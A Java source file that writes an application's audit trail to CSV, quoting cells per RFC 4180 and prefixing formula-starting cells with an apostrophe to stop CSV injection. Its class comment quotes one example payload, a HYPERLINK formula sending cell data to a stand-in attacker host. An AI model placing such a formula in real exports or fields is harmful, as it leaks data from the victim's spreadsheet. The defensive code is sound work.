package org.sealpost.portal.audit;

import java.io.BufferedWriter;
import java.io.IOException;
import java.io.OutputStream;
import java.io.OutputStreamWriter;
import java.io.UncheckedIOException;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;

/**
 * Audit events as CSV (RFC 4180): a header line of stable column names (for scripts, so not
 * translated), CRLF line ends, every cell that holds a comma, a double quote, CR or LF quoted
 * with its double quotes doubled.
 *
 * <p>CSV injection: a spreadsheet opening the file treats a cell that starts with {@code =},
 * {@code +}, {@code -} or {@code @} as a formula (and a leading TAB or CR can hide such a
 * start), and the audit trail holds text chosen by outsiders: the address someone typed at the
 * sign-in form is recorded as the actor, so {@code =HYPERLINK("http://evil.example/?"&A1)}
 * would run in the administrator's spreadsheet. Such a cell gets a leading apostrophe, which
 * spreadsheets show as text (OWASP, "CSV Injection"); the original value stays readable, and
 * the database and the chain keep it unchanged.
 */
public final class AuditCsv {

    /** The file's MIME type with its RFC 4180 parameters. */
    public static final String CONTENT_TYPE = "text/csv; charset=utf-8; header=present";

    static final List<String> HEADER = List.of(
            "id",
            "sequence",
            "occurred_at",
            "actor",
            "action",
            "target_type",
            "target_id",
            "client_address",
            "detail",
            "field",
            "old_value",
            "new_value",
            "hash");

    private static final int EXPORT_BATCH = 1_000;

    private final Writer out;

    /**
     * Writes every event {@code filter} selects to {@code out} as UTF-8 CSV, newest first, one
     * batch of rows in memory at a time, and records the export itself (who, which filter, how
     * many) in the caller's transaction. Returns the number of events written.
     */
    public static long export(
            Connection c, AuditFilter filter, OutputStream out, String actor, String clientAddress, Instant now) {
        Writer writer = new BufferedWriter(new OutputStreamWriter(out, StandardCharsets.UTF_8));
        AuditCsv csv = new AuditCsv(writer);
        csv.header();
        long rows = AuditTrail.forEach(c, filter, EXPORT_BATCH, csv::row);
        try {
            writer.flush();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        AuditTrail.on(c)
                .record(
                        actor,
                        AuditAction.AUDIT_LOG_EXPORTED,
                        "audit_log",
                        null,
                        clientAddress,
                        rows + " event(s); " + filter.describe(),
                        now);
        return rows;
    }

    public AuditCsv(Writer out) {
        this.out = out;
    }

    public void header() {
        line(HEADER);
    }

    /** One event; {@code occurred_at} in ISO 8601, UTC, with its microseconds. */
    public void row(AuditEvent e) {
        line(Arrays.asList(
                Long.toString(e.id()),
                e.chainSeq() == null ? "" : e.chainSeq().toString(),
                e.occurredAt().toString(),
                e.actor(),
                e.action(),
                e.targetType(),
                e.targetId(),
                e.clientAddress(),
                e.detail(),
                e.field(),
                e.oldValue(),
                e.newValue(),
                e.chainHashHex()));
    }

    private void line(List<String> cells) {
        try {
            for (int i = 0; i < cells.size(); i++) {
                if (i > 0) {
                    out.write(',');
                }
                out.write(cell(cells.get(i)));
            }
            out.write("\r\n");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** One cell: formula starts defused, then quoted when RFC 4180 requires it; {@code null} is empty. */
    static String cell(String value) {
        if (value == null || value.isEmpty()) {
            return "";
        }
        String text = "=+-@\t\r".indexOf(value.charAt(0)) >= 0 ? "'" + value : value;
        if (text.indexOf(',') >= 0 || text.indexOf('"') >= 0 || text.indexOf('\r') >= 0 || text.indexOf('\n') >= 0) {
            return '"' + text.replace("\"", "\"\"") + '"';
        }
        return text;
    }
}
